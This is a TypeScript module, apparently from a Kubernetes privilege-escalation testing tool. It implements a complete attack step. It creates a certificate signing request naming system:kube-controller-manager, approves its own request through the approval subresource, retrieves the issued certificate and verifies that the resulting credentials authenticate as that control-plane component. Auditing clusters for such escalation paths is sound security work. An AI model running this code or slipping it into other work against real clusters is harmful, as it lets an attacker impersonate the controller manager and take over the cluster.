import { webcrypto } from 'node:crypto';
import { PemConverter, Pkcs10CertificateRequestGenerator } from '@peculiar/x509';
import type { Attempt, Gain } from '../attacker';
import type { Answer } from '../client';
import { isDone, newName } from '../creating';
import { until } from '../playing-field';
import { eventsOf } from './events-of';

const CSRS = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const KUBE_CONTROLLER_MANAGER = 'system:kube-controller-manager';

export async function requestsCertificate({ field, send, user }: Attempt): Promise<readonly Gain[]> {
  const name = newName();
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' };
  const keys = await webcrypto.subtle.generateKey(algorithm, true, ['sign', 'verify']);
  const csr = await Pkcs10CertificateRequestGenerator.create({
    name: `CN=${KUBE_CONTROLLER_MANAGER}`,
    keys: keys as never,
    signingAlgorithm: algorithm,
  });
  const asked = await send('POST', CSRS, {
    metadata: { name },
    spec: {
      request: Buffer.from(csr.toString('pem')).toString('base64'),
      signerName: 'kubernetes.io/kube-apiserver-client',
      usages: ['client auth'],
    },
  });
  if (!isDone(asked)) return [];
  const condition = { type: 'Approved', status: 'True', reason: 'Attack', message: '' };
  const approved = { ...asked.body, status: { conditions: [condition] } };
  const path = `${CSRS}/${name}`;
  const isApproved =
    isDone(await send('PUT', `${path}/approval`, approved)) ||
    isDone(await send('PATCH', `${path}/approval`, { status: approved.status }));
  if (!isApproved) return [];
  const cert = await until(`the certificate ${name}`, async () => {
    const found = await readRequest(send, name);
    return found === 'refused' ? found : found?.status?.certificate;
  });
  if (cert === 'refused') return [];
  const key = PemConverter.encode(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey), 'PRIVATE KEY');
  const credentials = { certificate: { cert: Buffer.from(cert, 'base64').toString(), key } };
  const does = 'requests, approves and receives a client certificate of a user of the control plane';
  const who = await field.client.send(credentials, 'POST', '/apis/authentication.k8s.io/v1/selfsubjectreviews', {});
  if (who.body?.status?.userInfo?.username !== KUBE_CONTROLLER_MANAGER) return [];
  return [{ does, to: user(KUBE_CONTROLLER_MANAGER, credentials) }];
}

async function readRequest(send: Attempt['send'], name: string): Promise<Answer['body'] | 'refused'> {
  const got = await send('GET', `${CSRS}/${name}`);
  if (isDone(got)) return got.body;
  const listed = await send('GET', CSRS);
  if (isDone(listed)) return listed.body.items.find(({ metadata }: Answer['body']) => metadata.name === name);
  const watched = await send('GET', `${CSRS}?watch=true&timeoutSeconds=1&fieldSelector=metadata.name=${name}`);
  if (!isDone(watched)) return 'refused';
  return eventsOf(watched).at(-1);
}
